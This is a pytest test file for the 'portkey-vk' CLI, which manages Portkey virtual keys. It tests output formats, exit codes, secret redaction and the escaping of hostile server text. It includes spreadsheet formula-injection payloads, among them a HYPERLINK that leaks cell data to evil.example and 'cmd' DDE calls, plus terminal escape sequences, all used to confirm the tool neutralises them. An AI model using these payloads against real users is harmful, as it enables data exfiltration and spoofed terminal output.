"""``portkey-vk``: output, ``--json``, the offline demo, and one exit code per kind of failure.

Most cases call ``main(argv)`` in-process (fast, and the output is captured); the console entry
points and Ctrl-C-free error paths also run as real subprocesses, as a user would meet them.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import subprocess
import sys
import threading
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest

from portkey_vk import __version__, cli
from portkey_vk.cli import EXIT_CODES, main
from portkey_vk.testing import FakePortkey
from tests.conftest import unused_port
from tests.hostile import Behaviour, HostileServer, respond
from tests.quiet import meaningful, meaningful_bytes

SECRET = "pk-cli-secret-never-printed"


@pytest.fixture
def served() -> Iterator[FakePortkey]:
    with FakePortkey(api_key=SECRET) as server:
        server.add_virtual_key("openai-prod", name="OpenAI prod", note="team search")
        yield server


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    out = io.StringIO()
    code = main(argv, out=out)
    err = capsys.readouterr().err
    return code, out.getvalue(), err


def one_error_line(err: str) -> str:
    lines = err.splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith("portkey-vk: ")
    assert "Traceback" not in err
    assert SECRET not in err
    return lines[0]


def test_retrieve_prints_a_summary(served: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(
        ["retrieve", "openai-prod", "--api-key", SECRET, "--base-url", served.base_url], capsys
    )
    assert (code, err) == (0, "")
    assert "name" in out
    assert "OpenAI prod" in out
    assert "team search" in out
    assert SECRET not in out


def test_retrieve_json_reads_the_environment(
    served: FakePortkey, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PORTKEY_API_KEY", SECRET)
    monkeypatch.setenv("PORTKEY_BASE_URL", served.base_url)
    code, out, err = run(["retrieve", "openai-prod", "--json", "--timeout", "5"], capsys)
    assert (code, err) == (0, "")
    data = json.loads(out)
    assert data["slug"] == "openai-prod"
    assert data["name"] == "OpenAI prod"
    assert data["status"] == "active"
    assert served.requests[-1].headers["x-portkey-api-key"] == SECRET


def test_missing_key_names_the_variable(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["retrieve", "openai-prod"], capsys)
    assert code == 3
    assert "PORTKEY_API_KEY" in one_error_line(err)
    assert out == ""


def test_refused_key_is_authentication(
    served: FakePortkey, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PORTKEY_API_KEY", "pk-wrong-key-also-secret")
    code, _, err = run(["retrieve", "openai-prod", "--base-url", served.base_url], capsys)
    line = one_error_line(err)
    assert code == 3
    assert "401" in line
    assert "Unauthorised Request" in line  # Portkey's own message
    assert "PORTKEY_API_KEY" in line
    assert "pk-wrong-key-also-secret" not in err


def test_not_found(served: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["retrieve", "nope", "--api-key", SECRET, "--base-url", served.base_url]
    code, _, err = run(argv, capsys)
    line = one_error_line(err)
    assert code == 4
    assert "NotFoundError: 404" in line
    assert "'nope' not found" in line


def test_other_api_error_shows_status_message_and_code(
    served: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    served.fail_next(
        402,
        body={"success": False, "data": {"message": "Subscription exhausted", "errorCode": "AB09"}},
    )
    argv = ["retrieve", "openai-prod", "--api-key", SECRET, "--base-url", served.base_url]
    code, _, err = run(argv, capsys)
    line = one_error_line(err)
    assert code == 1
    assert "402 Subscription exhausted" in line
    assert "AB09" in line


def test_connection_error(capsys: pytest.CaptureFixture[str]) -> None:
    base_url = f"http://127.0.0.1:{unused_port()}/v1"
    argv = ["retrieve", "k", "--api-key", SECRET, "--base-url", base_url, "--timeout", "2"]
    code, _, err = run(argv, capsys)
    assert code == 5
    assert "APIConnectionError" in one_error_line(err)


@pytest.mark.parametrize(
    "argv",
    [
        ["retrieve", "k", "--api-key", SECRET, "--base-url", "ftp://example.com"],
        ["retrieve", "bad\nslug", "--api-key", SECRET, "--base-url", "http://127.0.0.1:9"],
        ["retrieve", "k", "--api-key", SECRET, "--timeout", "-1"],
    ],
    ids=["base-url", "slug", "timeout"],
)
def test_bad_input_is_a_usage_error(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(argv, capsys)
    assert code == 2
    assert one_error_line(err).startswith("portkey-vk: error: ")


@pytest.mark.parametrize("argv", [[], ["retrieve"], ["frobnicate"], ["retrieve", "k", "--x"]])
def test_bad_arguments_exit_with_the_usage_code(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as info:
        main(argv)
    assert info.value.code == 2
    assert "usage: portkey-vk" in capsys.readouterr().err


def test_help_documents_every_exit_code(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["--help"])
    assert info.value.code == 0
    text = capsys.readouterr().out
    assert len(set(EXIT_CODES)) == 7
    for code, meaning in EXIT_CODES.items():
        assert f"{code:<4} {meaning}" in text


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["--version"])
    assert info.value.code == 0
    assert capsys.readouterr().out == f"portkey-vk {__version__}\n"


def test_demo_in_process(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["demo"], capsys)
    assert (code, err) == (0, "")
    assert "AsyncPortkey" in out
    assert "Portkey: client.virtual_keys.retrieve" in out
    assert out.count("Demo OpenAI key") == 2
    assert "Both clients read the same key." in out


@pytest.mark.parametrize(
    "command",
    [
        [sys.executable, "-X", "dev", "-W", "error", "-m", "portkey_vk"],
        [str(Path(sys.executable).with_name("portkey-vk"))],
    ],
    ids=["python -m portkey_vk", "portkey-vk console script"],
)
def test_demo_runs_offline_as_a_program(command: list[str]) -> None:
    done = subprocess.run(
        [*command, "demo"], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    assert meaningful(done.stderr) == ""
    assert "Both clients read the same key." in done.stdout


def test_errors_as_a_program_are_one_line_and_never_show_the_key(served: FakePortkey) -> None:
    done = subprocess.run(
        [sys.executable, "-X", "dev", "-W", "error", "-m", "portkey_vk", "retrieve", "nope"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={"PORTKEY_API_KEY": SECRET, "PORTKEY_BASE_URL": served.base_url, "PATH": ""},
    )
    assert done.returncode == 4
    assert done.stdout == ""
    assert "404" in one_error_line(meaningful(done.stderr))


# -- list, create, update, delete ----------------------------------------------------------------

PROVIDER_SECRET = "sk-provider-cli-secret-0123456789"


@pytest.fixture
def env(served: FakePortkey, monkeypatch: pytest.MonkeyPatch) -> FakePortkey:
    monkeypatch.setenv("PORTKEY_API_KEY", SECRET)
    monkeypatch.setenv("PORTKEY_BASE_URL", served.base_url)
    monkeypatch.delenv("PORTKEY_PROVIDER_KEY", raising=False)
    return served


def run_with(
    argv: list[str], capsys: pytest.CaptureFixture[str], stdin: str = ""
) -> tuple[int, str, str]:
    out = io.StringIO()
    code = main(argv, out=out, stdin=io.StringIO(stdin))
    err = capsys.readouterr().err
    for text in (out.getvalue(), err):
        assert SECRET not in text
        assert PROVIDER_SECRET not in text
    return code, out.getvalue(), err


def test_list_prints_a_table_of_every_key(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    for index in range(4):
        env.add_virtual_key(f"more-{index}", name=f"More {index}", ai_provider_name="anthropic")
    code, out, err = run_with(["list", "--page-size", "2"], capsys)
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0].split() == ["SLUG", "NAME", "PROVIDER", "STATUS", "CREATED", "NOTE"]
    assert [line.split()[0] for line in lines[1:]] == [
        "openai-prod",
        *(f"more-{index}" for index in range(4)),
    ]
    assert "team search" in lines[1]
    assert "anthropic" in lines[2]
    assert {r.query["page_size"] for r in env.requests} == {"2"}
    assert len(env.requests) == 3


def test_list_escapes_control_characters_from_the_server(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    env.add_virtual_key("evil", name="red\x1b[31m\x07\u202egnp.exe", note="two\nlines")
    code, out, _ = run_with(["list"], capsys)
    assert code == 0
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "\u202e" not in out
    assert "red\\x1b[31m\\x07\\u202egnp.exe" in out
    assert "two\\x0alines" in out
    # CSV is a machine format (issue 19 item 10): the server's text, as csv quotes it; escaped
    # only when written to a terminal (tests/test_cli_hardening.py).
    code, out, _ = run_with(["list", "--csv"], capsys)
    assert code == 0
    row = next(r for r in csv.DictReader(io.StringIO(out, newline="")) if r["slug"] == "evil")
    assert (row["name"], row["note"]) == ("red\x1b[31m\x07\u202egnp.exe", "two\nlines")
    code, out, _ = run_with(["list", "--jsonl"], capsys)
    assert "\x1b" not in out
    assert json.loads(out.splitlines()[-1])["name"] == "red\x1b[31m\x07\u202egnp.exe"


def test_list_as_json_jsonl_and_csv(env: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
    env.add_virtual_key("second", note=None)
    code, out, _ = run_with(["list", "--json"], capsys)
    assert code == 0
    assert [item["slug"] for item in json.loads(out)] == ["openai-prod", "second"]
    code, out, _ = run_with(["list", "--jsonl", "--page-size", "1"], capsys)
    assert [json.loads(line)["slug"] for line in out.splitlines()] == ["openai-prod", "second"]
    code, out, _ = run_with(["list", "--csv"], capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["slug"] for row in rows] == ["openai-prod", "second"]
    assert rows[0]["note"] == "team search"
    assert rows[1]["note"] == ""
    assert set(rows[0]) == {"slug", "name", "ai_provider_name", "status", "created_at", "note"}


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        (f, "'" + f)
        for f in (
            '=HYPERLINK("https://evil.example/?"&A1,"open")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
        )
    ]
    # A leading tab or carriage return is guarded too (CSV is not escaped for a terminal: issue
    # 19 item 10).
    + [("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1")],
)
def test_csv_cells_never_start_a_spreadsheet_formula(
    env: FakePortkey, capsys: pytest.CaptureFixture[str], name: str, cell: str
) -> None:
    env.add_virtual_key("formula", name=name, note="=1+1")
    code, out, _ = run_with(["list", "--csv"], capsys)
    assert code == 0
    row = next(r for r in csv.DictReader(io.StringIO(out, newline="")) if r["slug"] == "formula")
    # Shown as text, the apostrophe hidden by the spreadsheet; the JSON forms stay exact.
    assert row["name"] == cell
    assert row["note"] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    code, out, _ = run_with(["list", "--jsonl"], capsys)
    assert [json.loads(line)["name"] for line in out.splitlines()][-1] == name


def test_csv_leaves_ordinary_cells_alone(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    env.add_virtual_key("plain", name="a=b", note="cost: -5 % (was +3)")
    _, out, _ = run_with(["list", "--csv"], capsys)
    row = next(r for r in csv.DictReader(io.StringIO(out)) if r["slug"] == "plain")
    assert (row["name"], row["note"]) == ("a=b", "cost: -5 % (was +3)")


def test_list_of_nothing(env: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
    env.remove_virtual_key("openai-prod")
    assert run_with(["list"], capsys)[:2] == (0, "(no virtual keys)\n")
    assert run_with(["list", "--json"], capsys)[:2] == (0, "[]\n")
    assert run_with(["list", "--jsonl"], capsys)[:2] == (0, "")


def test_list_in_a_workspace(env: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
    env.add_virtual_key("in-ws", workspace_id="ws-1")
    code, out, _ = run_with(["list", "--workspace", "ws-1", "--jsonl"], capsys)
    assert code == 0
    assert [json.loads(line)["slug"] for line in out.splitlines()] == ["in-ws"]
    assert env.requests[-1].query["workspace_id"] == "ws-1"


def test_list_shows_progress_only_on_a_terminal(
    env: FakePortkey, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for index in range(5):
        env.add_virtual_key(f"k{index}")
    code, _, err = run_with(["list", "--page-size", "2"], capsys)
    assert (code, err) == (0, ""), "stderr is not a terminal here: no progress"
    monkeypatch.setattr(cli._common, "is_terminal", lambda stream: stream is sys.stderr)
    monkeypatch.setattr(cli._common, "_PROGRESS_INTERVAL", 0.0)
    code, out, err = run_with(["list", "--page-size", "2", "--csv"], capsys)
    assert code == 0
    assert "\rloading virtual keys: 6/6" in err
    assert err.endswith("\r\x1b[K")
    assert "loading" not in out


@pytest.mark.parametrize(
    "argv",
    [["list", "--page-size", "0"], ["list", "--page-size", "5000"], ["list", "--workspace", ""]],
)
def test_list_bad_input_is_a_usage_error(
    env: FakePortkey, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    code, _, err = run_with(argv, capsys)
    assert code == 2
    assert one_error_line(err).startswith("portkey-vk: error: ")
    assert env.requests == []


def test_list_formats_are_exclusive(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["list", "--json", "--csv"])
    assert info.value.code == 2
    assert "not allowed with" in capsys.readouterr().err


def test_create_reads_the_provider_key_from_stdin(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["create", "--name", "prod-openai", "--provider", "openai", "--key-stdin"]
    code, out, err = run_with(
        [*argv, "--note", "n", "--workspace", "ws-9"], capsys, PROVIDER_SECRET + "\n"
    )
    assert (code, err) == (0, "")
    slug = out.removeprefix("created ").strip()
    assert slug.startswith("prod-openai")
    assert env.provider_key_of(slug) == PROVIDER_SECRET
    assert env.requests[-1].json == {
        "name": "prod-openai",
        "provider": "openai",
        "key": PROVIDER_SECRET,
        "note": "n",
        "workspace_id": "ws-9",
    }
    code, out, _ = run_with([*argv, "--json"], capsys, PROVIDER_SECRET)
    assert code == 0
    assert json.loads(out)["slug"].startswith("prod-openai")


def test_create_reads_the_provider_key_from_the_environment(
    env: FakePortkey, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PORTKEY_PROVIDER_KEY", PROVIDER_SECRET)
    code, out, _ = run_with(["create", "--name", "from-env", "--provider", "openai"], capsys)
    assert code == 0
    assert env.provider_key_of(out.split()[1]) == PROVIDER_SECRET


@pytest.mark.parametrize(
    ("argv", "stdin", "fragment"),
    [
        (["create", "--name", "n", "--provider", "openai"], "", "PORTKEY_PROVIDER_KEY"),
        (["create", "--name", "n", "--provider", "openai", "--key-stdin"], "\n", "empty"),
        (["create", "--name", " ", "--provider", "openai", "--key-stdin"], "sk-x1234567", "name"),
    ],
)
def test_create_without_a_usable_key_or_name_is_a_usage_error(
    env: FakePortkey, capsys: pytest.CaptureFixture[str], argv: list[str], stdin: str, fragment: str
) -> None:
    code, _, err = run_with(argv, capsys, stdin)
    assert code == 2
    assert fragment in one_error_line(err)
    assert env.requests == []


def test_create_has_no_key_argument(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["create", "--name", "n", "--provider", "openai", "--key", PROVIDER_SECRET])
    assert info.value.code == 2
    capsys.readouterr()


def test_a_failed_create_says_it_may_have_happened_and_never_shows_the_key(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    env.fail_next(500, body={"message": f"could not store {PROVIDER_SECRET}"})
    argv = ["create", "--name", "n", "--provider", "openai", "--key-stdin"]
    code, out, err = run_with(argv, capsys, PROVIDER_SECRET)
    line = one_error_line(err)
    assert (code, out) == (1, "")
    assert "may or may not have taken effect" in line
    assert "[REDACTED]" in line
    assert [r.method for r in env.requests] == ["POST"]


def test_update_changes_only_what_is_given(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_with(
        ["update", "openai-prod", "--note", "rotated", "--key-stdin"], capsys, PROVIDER_SECRET
    )
    assert (code, out, err) == (0, "updated openai-prod\n", "")
    assert env.requests[-1].json == {"note": "rotated", "key": PROVIDER_SECRET}
    assert env.provider_key_of("openai-prod") == PROVIDER_SECRET
    code, _, _ = run_with(["update", "openai-prod", "--name", "Renamed"], capsys)
    assert env.requests[-1].json == {"name": "Renamed"}


def test_update_with_nothing_or_of_a_missing_key(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_with(["update", "openai-prod"], capsys)
    assert code == 2
    assert "nothing to change" in one_error_line(err)
    assert env.requests == []
    code, _, err = run_with(["update", "nope", "--note", "x"], capsys)
    assert code == 4
    assert "404" in one_error_line(err)


def test_delete_with_yes(env: FakePortkey, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_with(["delete", "openai-prod", "--yes"], capsys) == (0, "deleted openai-prod\n", "")
    assert [r.method for r in env.requests] == ["DELETE"]
    code, _, err = run_with(["delete", "openai-prod", "--yes"], capsys)
    assert code == 4
    assert "404" in one_error_line(err)


def test_delete_without_a_terminal_refuses_unless_yes(
    env: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run_with(["delete", "openai-prod"], capsys, "y\n")
    assert (code, out) == (2, "")
    assert "--yes" in one_error_line(err)
    assert env.requests == []


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("answer", "deleted"), [("y\n", True), ("YES\n", True), ("n\n", False), ("\n", False)]
)
def test_delete_on_a_terminal_asks_first(
    env: FakePortkey, capsys: pytest.CaptureFixture[str], answer: str, deleted: bool
) -> None:
    out = io.StringIO()
    code = main(["delete", "openai-prod"], out=out, stdin=_Terminal(answer))
    err = capsys.readouterr().err
    assert err.startswith("Delete virtual key openai-prod? [y/N] ")
    if deleted:
        assert (code, out.getvalue()) == (0, "deleted openai-prod\n")
        assert [r.method for r in env.requests] == ["DELETE"]
    else:
        assert code == 2
        assert err.endswith("portkey-vk: error: not deleted\n")
        assert env.requests == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="needs a Linux pty")
def test_delete_asks_on_a_real_terminal(served: FakePortkey) -> None:
    import os  # noqa: PLC0415
    import pty  # noqa: PLC0415

    main_fd, child_fd = pty.openpty()
    try:
        process = subprocess.Popen(
            [sys.executable, "-m", "portkey_vk", "delete", "openai-prod"],
            stdin=child_fd,
            stdout=subprocess.PIPE,
            stderr=child_fd,
            env={"PORTKEY_API_KEY": SECRET, "PORTKEY_BASE_URL": served.base_url, "PATH": ""},
        )
        os.close(child_fd)
        seen = b""
        while b"[y/N]" not in seen:
            seen += os.read(main_fd, 1024)
        os.write(main_fd, b"y\n")
        stdout, _ = process.communicate(timeout=60)
    finally:
        os.close(main_fd)
    assert process.returncode == 0
    assert stdout == b"deleted openai-prod\n"
    assert b"Delete virtual key openai-prod?" in seen
    assert [r.method for r in served.requests] == ["DELETE"]


@pytest.mark.parametrize("command", ["list", "create", "update", "delete", "retrieve"])
def test_every_command_has_help_with_examples(
    command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as info:
        main([command, "--help"])
    assert info.value.code == 0
    text = capsys.readouterr().out
    assert "examples:" in text
    assert f"portkey-vk {command}" in text
    assert "exit codes:" in text


def _read_until(fd: int, marker: bytes, seen: bytes = b"", limit: float = 30.0) -> bytes:
    import os  # noqa: PLC0415
    import select  # noqa: PLC0415
    import time  # noqa: PLC0415

    deadline = time.monotonic() + limit
    while marker not in seen and time.monotonic() < deadline:
        ready, _, _ = select.select([fd], [], [], 0.1)
        if ready:
            try:
                chunk = os.read(fd, 1024)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            seen += chunk
    return seen


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="needs a Linux pty")
def test_create_key_typed_on_a_real_terminal_is_not_echoed(served: FakePortkey) -> None:
    import os  # noqa: PLC0415
    import pty  # noqa: PLC0415

    env = {"PORTKEY_API_KEY": SECRET, "PORTKEY_BASE_URL": served.base_url, "PATH": ""}
    argv = [sys.executable, "-m", "portkey_vk", "create", "--name", "tty", "--provider", "openai"]
    pid, main_fd = pty.fork()
    if pid == 0:  # the child: the pty is its controlling terminal, stdin, stdout and stderr
        os.execve(sys.executable, [*argv, "--key-stdin"], env)
    try:
        seen = _read_until(main_fd, b"provider key: ")
        os.write(main_fd, PROVIDER_SECRET.encode() + b"\n")
        # Everything the terminal shows until the child exits (EOF ends the read).
        seen = _read_until(main_fd, b"<end of output>", seen)
    finally:
        _, status = os.waitpid(pid, 0)
        os.close(main_fd)
    assert os.waitstatus_to_exitcode(status) == 0, seen
    assert b"created tty" in seen
    assert PROVIDER_SECRET.encode() not in seen, "the key was echoed"
    created = [r for r in served.requests if r.method == "POST"]
    assert len(created) == 1
    assert created[0].json["key"] == PROVIDER_SECRET


# -- a server's text never reaches the terminal raw ----------------------------------------------

HOSTILE = [
    "\x1b]0;pwned\x07",  # OSC: retitle the terminal
    "\x1b[2J\x1b[H",  # CSI: clear the screen
    "\x9b2J",  # C1 CSI, one character
    "\x1bP+q\x1b\\",  # DCS
    "ok\rstatus            exhausted",  # CR: overwrite what was printed
    "a\nstatus            exhausted",  # LF: a forged extra line
    "bell\x07 back\x08space del\x7f nul\x00 nel\x85",
    "\u202eevil\u202c",  # right-to-left override
    "\u2066isolate\u2069 \u200fmark\u200e \u061c",
    "line\u2028para\u2029",
    "zero\u200bwidth \ufeffbom \u00adshy",
    "tag\U000e0041\U000e007f",  # invisible tag characters
    "\ud800lone",  # a lone surrogate (valid JSON text as "\\ud800")
]
JOINED_EMOJI = "family \U0001f468\u200d\U0001f469\u200d\U0001f467"


def _unsafe_chars(text: str) -> list[str]:
    return [
        ch
        for ch in text
        if unicodedata.category(ch) in {"Cc", "Cf", "Cs", "Zl", "Zp"} and ch not in "\n\u200c\u200d"
    ]


@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
def test_a_hostile_field_is_escaped_in_the_summary(
    served: FakePortkey, capsys: pytest.CaptureFixture[str], hostile: str
) -> None:
    # Served as the body itself: the fake would fill in its own slug.
    served.fail_next(
        200,
        body={
            "slug": f"evil{hostile}",
            "name": hostile,
            "note": f"note {hostile}",
            "status": f"active{hostile}",
            "ai_provider_name": hostile,
            "masked_api_key": hostile,
            "created_at": "2024-05-01T10:00:00Z",
            "usage_limits": {"type": hostile},
            "rate_limits": [{"unit": hostile}],
        },
    )
    argv = ["retrieve", "evil", "--api-key", SECRET, "--base-url", served.base_url]
    code, out, err = run(argv, capsys)
    assert (code, err) == (0, "")
    assert _unsafe_chars(out) == []
    lines = out.splitlines()
    # One line per field: nothing injected a line of its own.
    assert [line.split()[0] for line in lines] == [
        "slug",
        "name",
        "status",
        "ai_provider_name",
        "masked_api_key",
        "note",
        "created_at",
        "usage_limits",
        "rate_limits",
    ]


@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
def test_json_output_stays_exact_ascii_json(
    served: FakePortkey, capsys: pytest.CaptureFixture[str], hostile: str
) -> None:
    stored = served.add_virtual_key(
        "evil", name=hostile, tags={hostile: [hostile]}, model_config={"x": hostile}
    )
    argv = ["retrieve", "evil", "--json", "--api-key", SECRET, "--base-url", served.base_url]
    code, out, err = run(argv, capsys)
    assert (code, err) == (0, "")
    assert out.isascii()
    assert _unsafe_chars(out) == []
    assert json.loads(out) == stored.to_dict()


def test_joiners_that_emoji_need_are_kept(
    served: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    served.add_virtual_key("emoji", name=JOINED_EMOJI, note="café ünïcode ✓")
    argv = ["retrieve", "emoji", "--api-key", SECRET, "--base-url", served.base_url]
    _, out, _ = run(argv, capsys)
    assert JOINED_EMOJI in out
    assert "café ünïcode ✓" in out


@pytest.mark.parametrize("hostile", HOSTILE, ids=repr)
@pytest.mark.parametrize("status", [400, 404, 429, 503])
def test_a_hostile_error_message_is_escaped_on_one_bounded_line(
    served: FakePortkey, capsys: pytest.CaptureFixture[str], hostile: str, status: int
) -> None:
    message = f"refused {hostile} " + "x" * 100_000
    served.fail_next(
        status,
        times=3,
        headers={"Retry-After": "0"},
        body={"success": False, "data": {"message": message, "errorCode": f"AB{hostile}"}},
    )
    argv = ["retrieve", "openai-prod", "--api-key", SECRET, "--base-url", served.base_url]
    code, out, err = run(argv, capsys)
    assert code != 0
    assert out == ""
    line = one_error_line(err)
    assert _unsafe_chars(line) == []
    assert len(line) < 1100
    assert "refused" in line


def test_a_hostile_html_error_page_is_escaped(
    served: FakePortkey, capsys: pytest.CaptureFixture[str]
) -> None:
    served.fail_next(502, times=3, headers={"Retry-After": "0"}, body="<h1>\x1b[2J\u202egw</h1>")
    argv = ["retrieve", "openai-prod", "--api-key", SECRET, "--base-url", served.base_url]
    _, _, err = run(argv, capsys)
    line = one_error_line(err)
    assert _unsafe_chars(line) == []
    assert "\\x1b[2J\\u202egw" in line


def test_an_ascii_terminal_gets_escapes_not_a_traceback(served: FakePortkey) -> None:
    served.add_virtual_key("emoji", name=f"café {JOINED_EMOJI} \u202e")
    done = subprocess.run(
        [sys.executable, "-X", "dev", "-W", "error", "-m", "portkey_vk", "retrieve", "emoji"],
        capture_output=True,
        timeout=60,
        check=False,
        env={
            "PORTKEY_API_KEY": SECRET,
            "PORTKEY_BASE_URL": served.base_url,
            "PYTHONIOENCODING": "ascii",
            "PATH": "",
        },
    )
    assert done.returncode == 0, done.stderr
    assert meaningful_bytes(done.stderr) == b""
    assert b"caf\\xe9 family \\U0001f468\\u200d" in done.stdout
    assert b"\\u202e" in done.stdout
    assert done.stdout.isascii()


@contextlib.contextmanager
def hostile_server(*behaviours: Behaviour) -> Iterator[HostileServer]:
    """A HostileServer on a loop of its own thread, for the CLI's blocking calls."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    server = HostileServer(*behaviours)
    asyncio.run_coroutine_threadsafe(server.__aenter__(), loop).result(10)
    try:
        yield server
    finally:
        asyncio.run_coroutine_threadsafe(server.__aexit__(None, None, None), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


def test_control_characters_in_a_response_header_are_escaped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    # aiohttp's client takes control characters in header values as they come (the raw
    # server writes Latin-1, so C1 CSI is one byte).
    request_id = "req\x1b]0;pwned\x07\x1b[2J\x9b"
    with hostile_server(
        respond(404, {"message": "gone"}, {"X-Portkey-Request-Id": request_id})
    ) as server:
        argv = ["retrieve", "vk", "--api-key", SECRET, "--base-url", server.base_url()]
        code, out, err = run(argv, capsys)
    assert (code, out) == (4, "")
    line = one_error_line(err)
    assert _unsafe_chars(line) == []
    assert "request id req\\x1b]0;pwned\\x07\\x1b[2J" in line
